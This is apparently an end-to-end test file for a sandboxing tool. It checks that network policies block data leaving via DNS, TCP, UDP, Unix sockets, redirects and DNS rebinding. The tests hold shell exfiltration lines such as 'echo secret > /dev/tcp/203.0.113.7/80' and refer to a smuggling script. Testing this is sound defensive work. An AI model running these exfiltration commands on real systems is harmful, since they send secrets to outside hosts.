import { execFileSync, spawn } from 'node:child_process';
import { copyFileSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeWorld, program, type World } from '../e2e/program.ts';

const here = fileURLToPath(new URL('.', import.meta.url));
const unshare = ['unshare', '--mount', '--net', ...(process.getuid?.() === 0 ? [] : ['--map-root-user'])];

/** What the small internet was told. */
type Heard = {
	readonly names: readonly string[];
	readonly tcp: readonly (readonly [host: string, port: number, bytes: string])[];
	readonly udp: readonly unknown[];
	readonly unix: readonly string[];
};
const nothing: Heard = { names: [], tcp: [], udp: [], unix: [] };

let world: World;

beforeAll(() => {
	world = makeWorld();
	for (const name of ['smuggle.py', 'network_world.py']) copyFileSync(join(here, name), join(world.work, name));
	mkdirSync(join(world.folder, 'net'));
});

afterAll(() => world.remove());

function canUnshare(): boolean {
	try {
		execFileSync(unshare[0] ?? '', [...unshare.slice(1), '/usr/bin/pypy3', '-c', ''], { stdio: 'ignore' });
		return true;
	} catch {
		return false;
	}
}

/** Runs a command in the small internet; what it printed, and what was heard. */
function inWorld(
	words: readonly string[],
): Promise<{ stdout: string; stderr: string; status: number | null; heard: Heard }> {
	const net = join(world.folder, 'net');
	execFileSync('rm', ['-f', join(net, 'docker.sock'), join(net, 'heard.json')]);
	const [first = '', ...rest] = [...unshare, '/usr/bin/pypy3', join(world.work, 'network_world.py'), net, ...words];
	return new Promise((resolve) => {
		const child = spawn(first, rest, { cwd: world.work, env: { ...world.env }, stdio: ['ignore', 'pipe', 'pipe'] });
		let [stdout, stderr] = ['', ''];
		child.stdout.on('data', (bytes) => (stdout += bytes));
		child.stderr.on('data', (bytes) => (stderr += bytes));
		child.once('close', (status) =>
			resolve({ stdout, stderr, status, heard: JSON.parse(readFileSync(join(net, 'heard.json'), 'utf8')) }),
		);
	});
}

function policy(rules: string, more = ''): string {
	world.write(
		'p.yaml',
		`default: { read: allow, write: deny, delete: deny, run: allow, connect: deny }\nrules:\n${rules || '  []'}\n${more}`,
	);
	return join(world.work, 'p.yaml');
}

const shell = ['echo secret > /dev/tcp/203.0.113.7/80', 'echo secret > /dev/udp/203.0.113.7/9999'];
const commands = shell.map((text) => `  - { allow: run, command: ${JSON.stringify(`bash -c '${text}'`)} }`).join('\n');

describe.skipIf(!canUnshare())('in a small internet', () => {
	test('nothing leaves where connect is denied: names, addresses, datagrams, proxies, sockets of the machine, commands', {
		timeout: 120_000,
	}, async () => {
		const net = join(world.folder, 'net');
		const open = await inWorld(['/usr/bin/pypy3', 'smuggle.py', net]);
		// The corpus is worth something only where it gets out.
		expect(open.heard.names).toContain('c2vjcmv0.example');
		expect(open.heard.tcp.length).toBeGreaterThan(15);
		expect(open.heard.udp.length).toBeGreaterThan(2);
		expect(open.heard.unix.length).toBeGreaterThan(2);
		const denied = policy(commands, 'commands: { network: none }\n');
		const shut = await inWorld([program, '--unattended', '--policy', denied, 'smuggle.py', net]);
		expect(shut.heard).toEqual(nothing);
		expect(shut.stdout).not.toContain(' went ');
		expect(shut.stdout.split('\n').length).toBe(open.stdout.split('\n').length);
		expect(shut.status).toBe(126);
	});

	test('a redirect to a host that no rule allows ends there, and its name is not even looked up', async () => {
		world.write('get.py', 'import urllib.request\nprint(urllib.request.urlopen("http://a.example/redirect").read())\n');
		const ran = await inWorld([
			program,
			'--unattended',
			'--policy',
			policy('  - { allow: connect, host: "a.example:80" }'),
			'get.py',
		]);
		expect(ran.heard.tcp.map(([host, port]) => `${host}:${port}`)).toEqual(['203.0.113.7:80']);
		expect(new Set(ran.heard.names)).toEqual(new Set(['a.example']));
		expect(ran.stderr).toContain('denied: connect other.example (name lookup)');
	});

	test('a name that leads to this machine, at once or the second time, opens nothing there', async () => {
		world.write(
			'rebind.py',
			`import socket
def to(name, port=80):
    try: return socket.create_connection((name, port), 5).getpeername()
    except OSError as error: return error.errno
print(to('inside.example'), to('rebind.example'), to('rebind.example'), to('rebind.example'), to('127.0.0.1'))
`,
		);
		const ran = await inWorld([
			program,
			'--unattended',
			'--policy',
			policy('  - { allow: connect, host: "*:*" }'),
			'rebind.py',
		]);
		const there = "('203.0.113.7', 80)";
		expect(ran.stdout).toBe(`111 ${there} ${there} ${there} 111\n`);
		expect(new Set(ran.heard.tcp.map(([host]) => host))).toEqual(new Set(['203.0.113.7']));
	});

	test('an address is judged under the name that led to it, and as an address where none did', async () => {
		world.write(
			'names.py',
			`import socket
def to(name, port=80):
    try: return socket.create_connection((name, port), 5).getpeername()
    except OSError as error: return error.errno
print(to('203.0.113.7'), to('a.example'), to('203.0.113.7'), to('a.example', 443), to('203.0.113.8'))
u = socket.socket(type=socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(b'hi', ('203.0.113.8', 9999)); print(u.recvfrom(10))
`,
		);
		const rules = '  - { allow: connect, host: ["a.example:80", "203.0.113.8:9999"] }';
		const ran = await inWorld([program, '--unattended', '--policy', policy(rules), 'names.py']);
		const there = "('203.0.113.7', 80)";
		expect(ran.stdout).toBe(`111 ${there} ${there} 111 111\n(b'answer', ('203.0.113.8', 9999))\n`);
	});

	test('a socket of the machine is reached where a rule names its path, and no other one', async () => {
		world.write(
			'sockets.py',
			`import socket, sys
for path in (sys.argv[1] + '/docker.sock', '\\0outside'):
    s = socket.socket(socket.AF_UNIX); copy = s.dup()
    try: s.connect(path); copy.sendall(b'hello docker'); print(s.getpeername() == path, s.recv(10))
    except OSError as error: print(error.errno)
`,
		);
		const net = join(world.folder, 'net');
		const rules = `  - { allow: connect, host: ${JSON.stringify(`unix:${net}/docker.sock`)} }`;
		const ran = await inWorld([program, '--unattended', '--policy', policy(rules), 'sockets.py', net]);
		expect(ran.stdout).toBe("True b''\n111\n");
		expect(ran.heard.unix).toEqual(['hello docker']);
	});
});
